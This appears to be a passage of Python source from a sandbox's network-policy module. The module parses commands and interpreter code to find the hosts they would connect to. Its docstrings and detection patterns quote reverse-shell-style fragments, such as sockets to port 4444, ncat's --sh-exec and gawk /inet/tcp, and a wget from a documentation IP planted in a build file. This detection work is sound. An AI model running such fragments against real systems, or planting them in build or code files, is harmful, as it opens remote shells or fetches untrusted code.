"""The hosts a command names as places to connect to: the network effect behind
``curl https://x``, ``python3 -c "urlopen('http://x')"`` and ``pg_dumpall -h 10.0.3.4``.

The policy decides each host :func:`command_hosts` finds as a network action
(:meth:`~corral.policy.Policy.decide_net`), so a host not listed is asked about before the
command runs, with the host named, just as the proxy asks when the connection is made.
Found are:

* URLs among the arguments of any program except those that only print or search text
  (``echo``, ``grep``, ``sed``, ``jq``, ...): ``curl https://h/x``, ``git clone
  https://h/r``, ``--host=http://h``; and the first operand of the downloaders (``curl``,
  ``wget``, ``http``, ``xh``) even without a scheme (``curl 1.2.3.4:8080/x``);
* hosts written in interpreter code (``python -c``, ``node -e``/``-p``, ``perl -e``/``-E``,
  ``ruby -e``, ``php -r``, ``deno eval``, ``bun -e``, and a here-string given to the
  interpreter): URLs, keyword forms (``host: 'h'``, ``hostname='h'``, ``PeerAddr =>
  'h:4444'``), a quoted host next to a port (``connect(('1.2.3.4', 4444))``,
  ``net.connect(4444, 'h')``, ``TCPSocket.new("h", 4444)``, ``fsockopen("h", 80)``) and
  quoted IP addresses or ``name:port`` strings;
* host operands of network clients: ``-h``/``--host`` of the database clients and dumpers
  (``mysql``, ``mysqldump``, ``psql``, ``pg_dump``, ``pg_dumpall``, ``redis-cli``,
  ``mongosh``, ...), ``host=`` in a libpq connection string, ``--endpoints`` of
  ``etcdctl``, the host operand of ``nc``/``ncat``/``netcat``/``telnet``/``ftpget``/
  ``ftpput``, and ``socat``'s ``TCP:host:port`` addresses;
* a backup repository's host (``restic -r sftp:u@h:/r``, ``s3:h/b``, ``b2:``, ``borg …
  u@h:repo``), a URL after a backend prefix or a variable name (``rest:http://h``,
  ``env https_proxy=http://h:3128``), a bucket URL's service (``s3://b`` ->
  ``s3.amazonaws.com``), cloud SDK clients in code (``boto3.client('s3')``);
* an IPv4 address given to any program (``ip:port/path`` too), and a network it sweeps: a
  CIDR operand (``nmap 10.0.0.1/24``) or templated trailing octets (``ping 10.11.0.{}``,
  ``192.168.1.$i``), decided as its first address;
* a ``name.tld:port`` operand of any program (``./agent -o relay.example.net:7000``), the
  value of a host-naming option of any program (``--bootstrap-server kafka:9092``,
  ``--server u@h``, ``--brokers a:9092,b:9092``), Tcl's ``socket h p`` in code and gawk's
  ``/inet/tcp/0/h/p``;
* :func:`written_addresses`: the IP addresses text written into a file names (the engine
  decides those of ``echo``/``printf`` output redirected to a file and of editors' scripts).

Legacy numeric forms of addresses (``2130706433``, ``0x7f.1``) are normalised by
:func:`~corral.policy.patterns.normalize_host` when decided. A host assembled at run time
(string concatenation, ``$VAR``, base64) is not seen here: the proxy and the kernel decide
the connection when it is made.
"""

from __future__ import annotations

import ipaddress
import re
from typing import Final

from .. import saferegex
from .patterns import normalize_host

__all__ = [
    "CODE_PROGRAMS",
    "HOST_PROGRAMS",
    "code_hosts",
    "command_hosts",
    "interpreter_code",
    "piped_hosts",
    "written_addresses",
    "written_file_kind",
    "written_hosts",
]

#: URL schemes that name something local, not a host to connect to (``res://`` is a Godot
#: project path, ``file://`` a file, ``sqlite3://x.db`` and ``duckdb://`` a database file)
LOCAL_SCHEMES: Final = frozenset(
    ("file", "res", "user", "data", "about", "blob", "jar", "sqlite", "sqlite3", "duckdb")
)
#: a URL that starts an argument (its host runs to the first ``/``, ``:``, ``?`` or ``#``)
_ARG_URL: Final = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*)://(?:[^/@\s]*@)?(\[[^\]]+\]|[^/:?#\s]+)")
#: a URL inside code
_URL: Final = re.compile(
    r"(?<![A-Za-z0-9+.-])([A-Za-z][A-Za-z0-9+.-]{0,30})://(?:[^/@\s'\"`]*@)?"
    r"(\[[0-9A-Fa-f:.%]+\]|[^/:?#\s'\"`,;()\[\]{}<>\\|]+)"
)
#: programs that only print, search or transform text: a URL among their arguments is data
_TEXT_PROGRAMS: Final = frozenset(
    {"echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk",
     "mawk", "jq", "yq", "sort", "uniq", "wc", "tr", "cut", "test", "[", "[[", "expr",
     "basename", "dirname", "realpath", "readlink", "logger", "cat", "head", "tail", "less",
     "more", "diff", "comm", "column", "fold", "fmt", "iconv", "base64", "xxd", "od",
     "hexdump", "sha256sum", "md5sum", "tee", "true", "false", ":", "export", "local",
     "declare", "typeset", "readonly", "alias", "set", "read", "printenv", "git-log"}
)  # fmt: skip
#: downloaders whose operands are URLs even without a scheme, and their value options
_DOWNLOADERS: Final[dict[str, frozenset[str]]] = {
    "curl": frozenset(
        {"-o", "--output", "-H", "--header", "-d", "--data", "--data-raw", "--data-binary",
         "--data-urlencode", "--json", "-X", "--request", "-u", "--user", "-A", "--user-agent",
         "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-F", "--form", "-T",
         "--upload-file", "-w", "--write-out", "-m", "--max-time", "--connect-timeout", "-x",
         "--proxy", "-K", "--config", "-r", "--range", "-C", "--continue-at", "-E", "--cert",
         "--key", "--cacert", "--capath", "--retry", "--retry-delay", "--retry-max-time",
         "-z", "--time-cond", "--resolve", "--connect-to", "--interface", "--limit-rate",
         "-Y", "--speed-limit", "-y", "--speed-time", "--max-filesize", "--max-redirs",
         "--output-dir", "--oauth2-bearer", "--proto", "--proto-redir", "--unix-socket",
         "--abstract-unix-socket", "-U", "--proxy-user", "--stderr", "--trace",
         "--trace-ascii", "--dns-servers", "-D", "--dump-header", "--variable", "--expand-url",
         "--url-query", "--aws-sigv4", "--ciphers", "--pinnedpubkey", "--tls-max"}
    ),
    "wget": frozenset(
        {"-O", "--output-document", "-o", "--output-file", "-a", "--append-output", "-P",
         "--directory-prefix", "-U", "--user-agent", "--header", "-t", "--tries", "-T",
         "--timeout", "-w", "--wait", "-i", "--input-file", "-e", "--execute", "-Q", "--quota",
         "--user", "--password", "--post-data", "--post-file", "--body-data", "--body-file",
         "--method", "-l", "--level", "-A", "--accept", "-R", "--reject", "-D", "--domains",
         "--exclude-domains", "-I", "--include-directories", "-X", "--exclude-directories",
         "--limit-rate", "--load-cookies", "--save-cookies", "--ca-certificate",
         "--certificate", "--private-key", "--referer", "--bind-address", "-B", "--base"}
    ),
    "http": frozenset({"-a", "--auth", "-o", "--output", "--session", "--verify", "--cert",
                       "--cert-key", "--proxy"}),
    "https": frozenset({"-a", "--auth", "-o", "--output", "--session", "--verify", "--cert",
                        "--cert-key", "--proxy"}),
    "xh": frozenset({"-a", "--auth", "-o", "--output", "--session", "--verify", "--cert",
                     "--cert-key", "--proxy"}),
}  # fmt: skip
#: network clients whose host is given by an option: program -> options naming the host
_HOST_OPTIONS: Final[dict[str, frozenset[str]]] = {
    **{p: frozenset({"-h", "--host"}) for p in (
        "mysql", "mysqldump", "mysqladmin", "mysqlshow", "mysqlimport", "mysqlpump",
        "mariadb", "mariadb-dump", "mariadb-admin", "psql", "pg_dump", "pg_dumpall",
        "pg_restore", "pg_basebackup", "pg_isready", "createdb", "dropdb", "vacuumdb",
        "clickhouse-client", "redis-cli", "keydb-cli", "mongodump", "mongorestore",
        "mongoexport", "mongoimport", "mongostat", "mongotop")},
    "mongo": frozenset({"--host"}),
    "mongosh": frozenset({"--host"}),
    "etcdctl": frozenset({"--endpoints"}),
    "influx": frozenset({"--host"}),
    "cqlsh": frozenset(),
    "openssl": frozenset({"-connect", "-proxy"}),
    "curl": frozenset({"-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5",
                       "--socks5-hostname"}),
    "wget": frozenset({"-e", "--execute"}),
}  # fmt: skip
#: PostgreSQL clients: a connection string operand may carry ``host=``
_LIBPQ: Final = frozenset(
    {"psql", "pg_dump", "pg_dumpall", "pg_restore", "pg_basebackup", "pg_isready", "createdb",
     "dropdb", "vacuumdb"}
)  # fmt: skip
#: clients whose first operand is the host: program -> options that take a value
_HOST_OPERAND: Final[dict[str, frozenset[str]]] = {
    "nc": frozenset({"-p", "-s", "-w", "-i", "-q", "-X", "-x", "-T", "-I", "-O", "-V", "-M",
                     "-m", "-e", "-c"}),
    "ncat": frozenset({"-p", "-s", "-w", "-i", "-e", "-c", "--sh-exec", "--exec", "--proxy",
                       "--proxy-type", "--source-port", "--source", "--wait", "-d", "--delay",
                       "-o", "--output", "-x", "--hex-dump"}),
    "netcat": frozenset({"-p", "-s", "-w", "-i", "-q", "-e", "-c"}),
    "telnet": frozenset({"-l", "-n", "-e", "-b", "-k", "-X"}),
    "ftpget": frozenset({"-u", "--username", "-p", "--password", "-P", "--port"}),
    **{p: frozenset({"-c", "-i", "-I", "-W", "-w", "-s", "-t", "-p", "-l", "-Q", "-S", "-M",
                     "-m", "-F", "-T", "-q", "-f", "-N", "-z", "-g", "-o", "-b", "-r", "-a",
                     "--count", "--interval", "--interface", "--timeout", "--size", "--ttl",
                     "--first", "--max-hops", "--port", "--sendwait", "--queries",
                     "--data", "--sign", "--destport", "--baseport"})
       for p in ("ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "hping3",
                 "arping", "fping", "tcptraceroute")},
    "ftpput": frozenset({"-u", "--username", "-p", "--password", "-P", "--port"}),
    "cqlsh": frozenset({"-u", "--username", "-p", "--password", "-k", "--keyspace", "-f",
                        "--file", "-e", "--execute", "--cqlversion", "--protocol-version",
                        "--request-timeout", "--connect-timeout", "--encoding"}),
}  # fmt: skip
#: interpreters and the options whose value is code (``None``: a subcommand word, ``eval``)
_CODE_OPTIONS: Final[dict[str, frozenset[str]]] = {
    "node": frozenset({"-e", "--eval", "-p", "--print"}),
    "nodejs": frozenset({"-e", "--eval", "-p", "--print"}),
    "bun": frozenset({"-e", "--eval", "-p", "--print"}),
    "perl": frozenset({"-e", "-E"}),
    "ruby": frozenset({"-e"}),
    "php": frozenset({"-r"}),
    "lua": frozenset({"-e"}),
    "luajit": frozenset({"-e"}),
    "Rscript": frozenset({"-e"}),
    "osascript": frozenset({"-e"}),
    "pwsh": frozenset({"-c", "-Command", "-command"}),
    "expect": frozenset({"-c"}),
    "tclsh": frozenset(),
    "wish": frozenset(),
}
_PYTHON: Final = re.compile(r"^python[0-9.]*$")
#: every program whose arguments may name a host without a ``/`` in them (the shell
#: worker's shortcut table must send these to the policy)
HOST_PROGRAMS: Final = frozenset(
    {*_DOWNLOADERS, *_HOST_OPTIONS, *_HOST_OPERAND, "restic", "borg", "kopia", "socat"}
)
#: interpreters whose code :func:`interpreter_code` finds (``python*`` besides)
CODE_PROGRAMS: Final = frozenset({*_CODE_OPTIONS, "deno"})

_KEYWORD_HOST: Final = re.compile(
    r"(?i:\b(?:host|hostname|peeraddr|peerhost|server|remote_?host|rhost)\b)['\"]?\s*"
    r"(?::|=>?)\s*['\"]([^'\"\s]{1,253})['\"]"
)
_HOST_PORT_CALL: Final = re.compile(
    r"['\"]([A-Za-z0-9][A-Za-z0-9.:\-\[\]]{0,252})['\"]\s*,\s*(?:port\s*=\s*)?\d{1,5}\s*[),\]]"
)
_PORT_HOST_CALL: Final = re.compile(
    r"\(\s*\d{1,5}\s*,\s*['\"]([A-Za-z0-9][A-Za-z0-9.\-]{0,252})['\"]"
)
_QUOTED_ADDRESS: Final = re.compile(
    r"['\"]((?:\d{1,3}\.){3}\d{1,3}|[A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}"
    r"(?=:\d{1,5}))(?::\d{1,5})?(?:/[^'\"]*)?['\"]"
)
#: Tcl's client socket (``socket 203.0.113.20 4444``, ``socket -async h 80``)
_TCL_SOCKET: Final = saferegex.compile(
    r"\bsocket\s+(?:-async\s+)?([A-Za-z0-9][A-Za-z0-9_.-]{0,252})\s+\d{1,5}\b"
)
#: gawk's special network files (``/inet/tcp/0/h/4444``)
_GAWK_INET: Final = saferegex.compile(
    r"/inet[46]?/(?:tcp|udp)/\d{1,5}/([A-Za-z0-9_.:\[\]-]{1,253})/\d{1,5}"
)
#: a multiaddr (libp2p, IPFS, ockam): ``/dnsaddr/relay.h/tcp/4000``, ``/ip4/A/udp/4001/quic``
_MULTIADDR: Final = saferegex.compile(
    r"(?:^|[\s'\"=,])/(?:dns|dns4|dns6|dnsaddr|ip4|ip6)/([A-Za-z0-9_.:\-]{1,253})"
    r"(?:/(?:tcp|udp|quic|quic-v1|ws|wss|tls|p2p|ipfs)\b|$|[\s'\"])"
)
_CONNINFO_HOST: Final = re.compile(r"(?:^|\s)host=([^\s'\"]+)")
_SOCAT_TCP: Final = re.compile(
    r"^(?:TCP|TCP4|TCP6|TCP-CONNECT|OPENSSL|SSL|UDP|UDP4|UDP6|UDP-SENDTO|SCTP)"
    r"(?:-CONNECT)?:([^:,]+|\[[^\]]+\]):\d", re.IGNORECASE
)
_SCHEMELESS: Final = re.compile(
    r"^(\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)+|\d{8,10})"
    r"(?::\d{1,5})?(?:[/?#].*)?$"
)
#: git's scp-like remote (``git@host:org/repo``)
_SCP_REMOTE: Final = re.compile(r"^[\w.+-]+@([A-Za-z0-9][\w.-]*|\[[0-9A-Fa-f:.]+\]):")
#: a backend prefix or a variable name before a URL in one argument (restic's
#: ``rest:http://h/r``, ``s3:https://h/b``; ``env https_proxy=http://h:3128 …``,
#: ``make URL=https://h``; ``git+https://`` needs none: it is a scheme)
_PREFIXED_URL: Final = re.compile(
    r"^(?:[A-Za-z][A-Za-z0-9_-]{0,15}:|[A-Za-z_][A-Za-z0-9_]{0,63}=)(?=[A-Za-z][A-Za-z0-9+.-]*://)"
)
#: backup tools whose repository names a remote host: program -> options naming it
_REPO_OPTIONS: Final[dict[str, frozenset[str]]] = {
    "restic": frozenset({"-r", "--repo", "--repository", "--from-repo"}),
    "borg": frozenset(),
    "kopia": frozenset(),
}
#: restic backends on a fixed service host (the others name it: ``sftp:u@h:/p``,
#: ``s3:h/bucket``, ``rest:URL``)
_RESTIC_SERVICES: Final = {
    "b2": "api.backblazeb2.com",
    "azure": "blob.core.windows.net",
    "gs": "storage.googleapis.com",
}
_RESTIC_SFTP: Final = re.compile(r"^sftp:(?:[\w.+-]+@)?([A-Za-z0-9][\w.-]*|\[[0-9A-Fa-f:.]+\]):")
_RESTIC_S3: Final = re.compile(r"^s3:([A-Za-z0-9][\w.-]*\.[A-Za-z][\w.-]*)(?::\d{1,5})?/")
_MAX_CODE: Final = 65536
_MAX_HOSTS: Final = 32


#: one octet of an address written with a template: ``{}`` (xargs, find), ``$i``,
#: ``${i}``, ``$((i+1))``, ``%s``/``%d``, a brace range ``{1..254}``
_OCTET_TEMPLATE: Final = re.compile(
    r"^(?:\{\}|\$\{?\w+\}?|\$\(\([^)]{0,40}\)\)|%[sdi])$"
)
_BRACE_RANGE: Final = re.compile(r"\{\d{1,3}\.\.\d{1,3}\}")


def _templated_ipv4(text: str) -> str | None:
    """The network an address with templated trailing octets sweeps (``10.11.0.{}``,
    ``192.168.$n.$h``, ``10.0.0.{1..254}``): its literal octets with the others 0; the
    first two octets must be written."""
    parts = _BRACE_RANGE.sub("{}", text[:64]).split(".")
    if len(parts) != 4 or not (parts[0].isdigit() and parts[1].isdigit()):
        return None
    out: list[str] = []
    templated = False
    for part in parts:
        if part.isdigit() and len(part) <= 3 and not templated:
            out.append(part)
        elif _OCTET_TEMPLATE.match(part):
            out.append("0")
            templated = True
        else:
            return None
    return ".".join(out) if templated else None


def _plausible(host: str) -> str | None:
    """``host`` when it can be a host name or address (not a template, a path, a word);
    an address with templated octets is the network it sweeps."""
    host = host.strip()
    if ("$" in host or "{" in host or "%" in host) and host[:1].isdigit():
        return _templated_ipv4(host.split(":", 1)[0] if host.count(":") == 1 else host)
    if not host or len(host) > 253 or "$" in host or "{" in host or "%" in host[:1]:
        return None
    if host.isdigit() and len(host) < 8:
        return None  # a port or a count (a decimal address of a real host has 8+ digits)
    name, ip = normalize_host(host)
    if ip is not None:
        return host
    if not name or ("." not in name and name != "localhost"):
        return None
    if not re.fullmatch(r"[a-z0-9_][a-z0-9_.\-]*", name) or name.startswith("."):
        return None
    labels = name.split(".")
    if labels[-1].isdigit() and len(labels) != 4:
        return None  # a version (3.12) or a file name with a number, not a host
    return host


def _add(found: list[str], host: str | None) -> None:
    if host is None or len(found) >= _MAX_HOSTS or _loopback(host):
        return
    name = normalize_host(host)[0]
    if all(normalize_host(h)[0] != name for h in found):
        found.append(host)


#: object-store URL schemes whose "host" is a bucket: the service host is connected to
_BUCKET_SCHEMES: Final = {
    "s3": "s3.amazonaws.com",
    "s3a": "s3.amazonaws.com",
    "s3n": "s3.amazonaws.com",
    "gs": "storage.googleapis.com",
    "gcs": "storage.googleapis.com",
    "b2": "api.backblazeb2.com",
}


#: options that name the object store's endpoint instead of the vendor's
_ENDPOINT_OPTIONS: Final = frozenset(
    {"--endpoint-url", "--endpoint", "--endpoint_url", "--s3-endpoint", "--s3-endpoint-url"}
)


def _endpoint_named(args: list[str]) -> bool:
    """Whether ``args`` give an object store's endpoint as a URL (``aws --endpoint-url
    http://localhost:8333 s3 ls s3://b``: the bucket is there, not at the vendor's)."""
    for j, a in enumerate(args):
        name, eq, value = a.partition("=")
        if name in _ENDPOINT_OPTIONS:
            if not eq:
                value = args[j + 1] if j + 1 < len(args) else ""
            if "://" in value:
                return True
    return False


def _url_host(host: str, scheme: str = "") -> str | None:
    """A URL's host as written: a name the policy cannot know (``$HOST``, ``$(cmd).x``)
    is a host not listed, decided as such. A bucket URL (``s3://bkt/x``) is its
    service's host."""
    service = _BUCKET_SCHEMES.get(scheme.lower()) if scheme else None
    if service is not None:
        return service
    host = host.strip("[]")
    if host[:1].isdigit() and ("$" in host or "{" in host or "%" in host):
        return _templated_ipv4(host) or host
    return host or None


def _loopback(host: str) -> bool:
    """Whether ``host`` is loopback or the unspecified address. Not decided with the
    command: in the native tiers (where a program can listen) loopback is the sandbox's
    own (a network namespace with loopback only, ``no_proxy`` for loopback), a connection
    that stays inside; in the wasm tier the connection gate refuses the host's loopback
    when the connection is made, as before."""
    name, ip = normalize_host(host)
    if name == "localhost" or name.endswith(".localhost"):
        return True
    return ip is not None and (ip.is_loopback or ip.is_unspecified)


def _urls(text: str, found: list[str]) -> None:
    if "://" not in text:
        return
    for m in _URL.finditer(text):
        if m.group(1).lower() not in LOCAL_SCHEMES:
            _add(found, _url_host(m.group(2), m.group(1)))


#: cloud SDKs in code: the API host a client talks to (``boto3.client('s3')`` ->
#: ``s3.amazonaws.com``, ``from google.cloud import storage`` -> ``storage.googleapis.com``)
_BOTO3_CLIENT: Final = re.compile(
    r"\.(?:client|resource)\(\s*(?:service_name\s*=\s*)?['\"]([a-z0-9-]{2,40})['\"]"
)
_AWS_JS_CLIENT: Final = re.compile(r"@aws-sdk/client-([a-z0-9-]{2,40})")
_GOOGLE_CLOUD: Final = re.compile(
    r"\bgoogle\.cloud(?:\.|\s+import\s+)([a-z0-9_]{2,40})|@google-cloud/([a-z0-9-]{2,40})"
)
_AZURE: Final = re.compile(r"\bazure[.\-/](keyvault|storage|mgmt|identity|cosmos)")
_AZURE_HOSTS: Final = {
    "keyvault": "vault.azure.net",
    "storage": "blob.core.windows.net",
    "mgmt": "management.azure.com",
    "identity": "login.microsoftonline.com",
    "cosmos": "documents.azure.com",
}
#: SaaS SDK clients in code: the account's API host (``wandb.Api()`` reads every run
#: of a team's projects, ``HfApi()`` a hub account)
_SAAS_SDKS: Final = (
    ("wandb.Api(", "api.wandb.ai"),
    ("HfApi(", "huggingface.co"),
    ("slack_sdk", "slack.com"),
    ("WebClient(token", "slack.com"),
)
_GITHUB_SDK: Final = re.compile(r"\b(?:Github\(|Octokit\b|@octokit/)")


def _sdk_hosts(code: str, found: list[str]) -> None:
    if "boto3" in code:
        for m in _BOTO3_CLIENT.finditer(code):
            _add(found, f"{m.group(1)}.amazonaws.com")
    if "@aws-sdk/" in code:
        for m in _AWS_JS_CLIENT.finditer(code):
            _add(found, f"{m.group(1)}.amazonaws.com")
    if "google" in code:
        for m in _GOOGLE_CLOUD.finditer(code):
            name = re.sub(r"[_-]v\d\w*$", "", m.group(1) or m.group(2) or "")
            name = name.replace("-", "").replace("_", "")
            if name:
                _add(found, f"{name}.googleapis.com")
    if "azure" in code:
        for m in _AZURE.finditer(code):
            _add(found, _AZURE_HOSTS[m.group(1)])
    if ("Github(" in code or "ctokit" in code) and _GITHUB_SDK.search(code):
        _add(found, "api.github.com")
    for marker, host in _SAAS_SDKS:
        if marker in code:
            _add(found, host)


def code_hosts(code: str) -> list[str]:
    """The hosts written in interpreter code (URLs, ``host: 'h'``, ``('h', 4444)``, ...)
    and the API hosts of the cloud SDK clients it makes."""
    code = code[:_MAX_CODE]
    found: list[str] = []
    _urls(code, found)
    _sdk_hosts(code, found)
    if "socket" in code:  # Tcl: socket HOST PORT
        for m in _TCL_SOCKET.finditer(code):
            _add(found, _plausible(m.group(1)))
    if "/inet" in code:
        for m in _GAWK_INET.finditer(code):
            _add(found, _plausible(m.group(1)))
    if "'" not in code and '"' not in code:
        return found
    for rx in (_KEYWORD_HOST, _HOST_PORT_CALL, _PORT_HOST_CALL, _QUOTED_ADDRESS):
        for m in rx.finditer(code):
            _add(found, _plausible(m.group(1)))
    return found


#: an IPv4 address with a port in text (``203.0.113.5:5000/runner``)
_TEXT_IPV4_PORT: Final = saferegex.compile(r"(?:^|[^\w.])((?:\d{1,3}\.){3}\d{1,3}):\d{1,5}\b")


def written_addresses(text: str) -> list[str]:
    """The IP addresses text written into a file names as places to connect to: a URL's
    host or an ``address:port`` (``RUN wget http://198.51.100.36/e`` into an Earthfile,
    ``-P img=203.0.113.5:5000/runner`` into ``.actrc``). What is written there is run or
    read as configuration later, by the sandbox or by CI; a name (not an address) in
    written text is data (a README's links), left to the proxy when it is reached."""
    text = text[:_MAX_CODE]
    found: list[str] = []
    urls: list[str] = []
    _urls(text, urls)
    for host in urls:
        if normalize_host(host)[1] is not None:
            _add(found, host)
    if ":" in text:
        for m in _TEXT_IPV4_PORT.finditer(text):
            _add(found, _plausible(m.group(1)))
    return found


#: files a build, a package manager, a container build or CI reads to learn where to fetch
#: code, tools and images from: a host written there is one the next build reaches
_FETCH_CONFIG_NAMES: Final = frozenset(
    {"pom.xml", "settings.xml", "settings-security.xml", "extensions.xml",
     "gradle-wrapper.properties", "maven-wrapper.properties", "gradle.properties",
     ".npmrc", ".yarnrc", ".yarnrc.yml", "bunfig.toml", "package.json", ".bowerrc",
     "pip.conf", "pip.ini", "pyproject.toml", "setup.cfg", "pipfile", "uv.toml",
     "poetry.toml", ".condarc", "environment.yml", "environment.yaml", "go.mod", "go.work",
     "cargo.toml", "gemfile", ".gemrc", "composer.json", "mix.exs", "nuget.config",
     "directory.packages.props", "docker-compose.yml", "docker-compose.yaml",
     "compose.yml", "compose.yaml", "devcontainer.json", ".gitlab-ci.yml", "jenkinsfile",
     ".travis.yml", "azure-pipelines.yml", "bitbucket-pipelines.yml", ".drone.yml",
     "cloudbuild.yaml", "cloudbuild.yml", ".gitmodules", ".pre-commit-config.yaml",
     "workspace", "workspace.bazel", "module.bazel", ".bazelrc", "flake.nix",
     ".gitconfig", ".curlrc", ".wgetrc", "sources.list", "chart.yaml", "deno.json",
     "vcpkg.json", "vcpkg-configuration.json", "conanfile.txt", "build.zig.zon",
     "project.clj", "deps.edn",
     "stack.yaml", "cabal.project", "pubspec.yaml", "packages.config"}
)  # fmt: skip
_FETCH_CONFIG_SUFFIXES: Final = (
    ".gradle", ".gradle.kts", ".sbt", ".csproj", ".fsproj", ".vbproj", ".dockerfile",
    ".repo", ".list", ".rockspec", ".podspec", ".nuspec",
)  # fmt: skip
_FETCH_CONFIG_PREFIXES: Final = ("dockerfile", "containerfile", "requirements", "constraints")
_FETCH_CONFIG_DIRS: Final = (
    ".github/workflows/", ".circleci/", ".buildkite/", ".cargo/", ".bundle/", ".m2/",
    ".mvn/", ".gradle/", ".pip/", ".config/pip/", "apt/sources.list.d/", "yum.repos.d/",
    ".devcontainer/", ".woodpecker/", ".forgejo/workflows/", ".gitea/workflows/",
)  # fmt: skip
#: files whose text is code: what code written there connects to is decided as code's
_CODE_SUFFIXES: Final = (
    ".py", ".pyw", ".pth", ".js", ".mjs", ".cjs", ".ts", ".mts", ".cts", ".rb", ".pl",
    ".pm", ".php", ".sh", ".bash", ".zsh", ".ksh", ".lua", ".tcl", ".ps1", ".r",
)  # fmt: skip


def written_file_kind(path: str) -> str | None:
    """What a file is to whoever reads it next: ``"config"`` when a build, a package
    manager, a container build or CI reads it to learn where to fetch from
    (``settings.gradle.kts``, ``gradle-wrapper.properties``, ``.npmrc``, ``Dockerfile``,
    ``.github/workflows/x.yml``), ``"code"`` when it is a program's source (``x.py``,
    ``conftest.py``, ``hook.sh``); None for other text (a README, notes, data)."""
    low = path.lower()
    name = low.rsplit("/", 1)[-1]
    if low.endswith(_CODE_SUFFIXES):
        return "code"
    if (
        name in _FETCH_CONFIG_NAMES
        or name.endswith(_FETCH_CONFIG_SUFFIXES)
        or name.startswith(_FETCH_CONFIG_PREFIXES)
        or any(d in "/" + low for d in _FETCH_CONFIG_DIRS)
    ):
        return "config"
    return None


#: keys of a project's metadata whose URLs are links (``homepage = "https://…"``,
#: ``"bugs": {"url": …}``), not places a build fetches from (a "repository" may be one:
#: vcpkg's registries)
_METADATA_KEYS: Final = (
    "homepage", "home-page", "documentation", "bugs", "issues", "tracker", "funding",
    "changelog", "website",
)  # fmt: skip
#: a colon escaped for a properties file or a regex (``https\://h``): still the URL's
_ESCAPED_COLON: Final = saferegex.compile(r"\\+:")


def written_hosts(text: str, kinds: set[str]) -> list[str]:
    """The hosts text written into files of ``kinds`` (:func:`written_file_kind`) names
    as places to connect to: any file's IP addresses (:func:`written_addresses`), a
    fetch configuration's URL hosts by name too (``distributionUrl=https\\://mirror.h/…``,
    ``maven { url = uri("https://repo.h/m2") }``), and a code file's hosts as code's
    (``socket.create_connection(("203.0.113.2", 9))`` into ``_plug.py``)."""
    text = text[:_MAX_CODE]
    if "\\" in text and ":" in text:
        text = _ESCAPED_COLON.sub(":", text)
    found = written_addresses(text)
    if "config" in kinds and "://" in text:
        for m in _URL.finditer(text):
            before = text[max(0, m.start() - 40) : m.start()].lower()
            if m.group(1).lower() in LOCAL_SCHEMES or any(k in before for k in _METADATA_KEYS):
                continue  # a project's homepage or issue tracker: a link, not a source
            _add(found, _url_host(m.group(2), m.group(1)))
    if "code" in kinds:
        for host in code_hosts(text):
            _add(found, host)
    return found


def interpreter_code(argv: list[str]) -> list[str]:
    """The code strings an interpreter command runs (``python -c CODE``, ``node -e CODE``,
    ``perl -e CODE``, ``deno eval CODE``, ...); empty for other commands."""
    prog = argv[0].rsplit("/", 1)[-1]
    args = argv[1:]
    if _PYTHON.match(prog):
        for j, a in enumerate(args):
            if a == "-c" and j + 1 < len(args):
                return [args[j + 1]]
            if a.startswith("-c") and len(a) > 2:
                return [a[2:]]
            if not a.startswith("-") or a == "-m":
                break
        return []
    if prog == "deno":
        return [args[1]] if len(args) >= 2 and args[0] == "eval" else []
    opts = _CODE_OPTIONS.get(prog)
    if opts is None:
        return []
    codes: list[str] = []
    for j, a in enumerate(args):
        name, eq, value = a.partition("=")
        if a in opts and j + 1 < len(args):
            codes.append(args[j + 1])
        elif eq and name in opts and name.startswith("--"):
            codes.append(value)
        elif (
            prog in ("perl", "ruby")
            and len(a) > 2
            and a[0] == "-"
            and a[1] != "-"
            and a[-1] in "eE"
            and j + 1 < len(args)
            and not a.startswith(("-M", "-r", "-I"))
        ):  # clustered flags ending in the code option: perl -ne CODE
            codes.append(args[j + 1])
    return codes


def _option_values(args: list[str], opts: frozenset[str]) -> list[str]:
    values: list[str] = []
    for j, a in enumerate(args):
        name, eq, value = a.partition("=")
        if eq and name in opts and name.startswith("--"):
            values.append(value)
        elif a in opts and j + 1 < len(args):
            values.append(args[j + 1])
        elif a[:1] == "-" and a[1:2] != "-" and len(a) > 2 and a[:2] in opts:
            values.append(a[2:])  # -h10.0.3.4, -hdb.internal
    return values


def _first_operand(args: list[str], value_opts: frozenset[str]) -> str | None:
    j = 0
    while j < len(args):
        a = args[j]
        if a == "--":
            return args[j + 1] if j + 1 < len(args) else None
        if a.startswith("-") and len(a) > 1:
            j += 2 if _takes_value(a, value_opts) else 1
            continue
        return a
    return None


def _takes_value(option: str, value_opts: frozenset[str]) -> bool:
    """Whether ``option`` takes the next argument: a value option, or a cluster of short
    flags that ends in one (``nc -lvp 4444``, ``curl -so out.json``)."""
    if option in value_opts:
        return True
    return option[1] != "-" and "=" not in option and "-" + option[-1] in value_opts


#: an argument that is an IPv4 address (``10.0.0.5``, ``203.0.113.7:4444``): given to a
#: program it names a host to reach (``./client 203.0.113.7 4444``, ``--server-ip X``)
_IPV4_OPERAND: Final = re.compile(r"^((?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?(?:/\S*)?$")
#: an argument that is a host name with a port (``pool.example.net:3333``,
#: ``db.internal:5432/app``): the name must end in a word (not a version, ``3.12:1``)
_NAME_PORT_OPERAND: Final = saferegex.compile(
    r"^([A-Za-z0-9][A-Za-z0-9-]{0,62}(?:\.[A-Za-z0-9-]{1,63})*\.[A-Za-z][A-Za-z0-9-]{1,62})"
    r":\d{1,5}(?:/\S*)?$"
)
#: options of any program whose value is a host to reach (``--bootstrap-server
#: kafka:9092``, ``--server h:p``, ``--rpc-url``): a name without a dot counts when a
#: port follows it
_HOST_VALUE_OPTIONS: Final = frozenset(
    {"--bootstrap-server", "--bootstrap-servers", "--broker-list", "--brokers", "--broker",
     "--zookeeper", "--server", "--servers", "--endpoint", "--endpoints", "--rpc-url",
     "--rpc", "--node-url", "--remote-host", "--target-host", "--upstream", "--connect",
